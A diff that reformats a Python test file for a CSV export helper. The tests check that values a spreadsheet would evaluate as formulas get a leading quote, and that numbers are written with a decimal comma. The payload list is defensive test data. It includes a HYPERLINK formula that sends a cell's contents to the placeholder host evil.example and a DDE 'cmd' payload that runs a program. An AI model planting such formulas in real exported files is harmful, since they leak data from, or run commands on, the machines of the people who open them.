@@ -5,12 +5,23 @@ import io
 from decimal import Decimal
 
 import pytest
-from hypothesis import given, strategies as st
+from hypothesis import given
+from hypothesis import strategies as st
 
 from lib.domain.spreadsheet import FORMULA_STARTS, cell, csv_bytes
 
-PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1;"clic")', "+1+1", "-2+3", "@SUM(1;2)", "\t=1+1", "\r=1+1",
-            "=cmd|' /C calc'!A0", "  =1+1", "\u00a0@x", "\n=1"]
+PAYLOADS = [
+    '=HYPERLINK("https://evil.example/?"&A1;"clic")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1;2)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+    "  =1+1",
+    "\u00a0@x",
+    "\n=1",
+]
 
 
 def read(body: bytes) -> list[list[str]]:
@@ -24,9 +35,21 @@ def test_a_cell_that_a_spreadsheet_would_run_gets_a_quote(payload):
     assert read(csv_bytes(["Motif"], [[payload]])) == [["Motif"], ["'" + payload]]
 
 
-@pytest.mark.parametrize("value, written", [(-1250, "-1250"), (0, "0"), (93.4, "93,4"), (-0.5, "-0,5"),
-                                            (Decimal("-12.40"), "-12,40"), (None, ""), (float("nan"), ""),
-                                            ("Sans porc", "Sans porc"), ("École A", "École A"), ("", "")])
+@pytest.mark.parametrize(
+    "value, written",
+    [
+        (-1250, "-1250"),
+        (0, "0"),
+        (93.4, "93,4"),
+        (-0.5, "-0,5"),
+        (Decimal("-12.40"), "-12,40"),
+        (None, ""),
+        (float("nan"), ""),
+        ("Sans porc", "Sans porc"),
+        ("École A", "École A"),
+        ("", ""),
+    ],
+)
 def test_numbers_stay_numbers_and_plain_text_stays_as_it_is(value, written):
     assert cell(value) == written
 
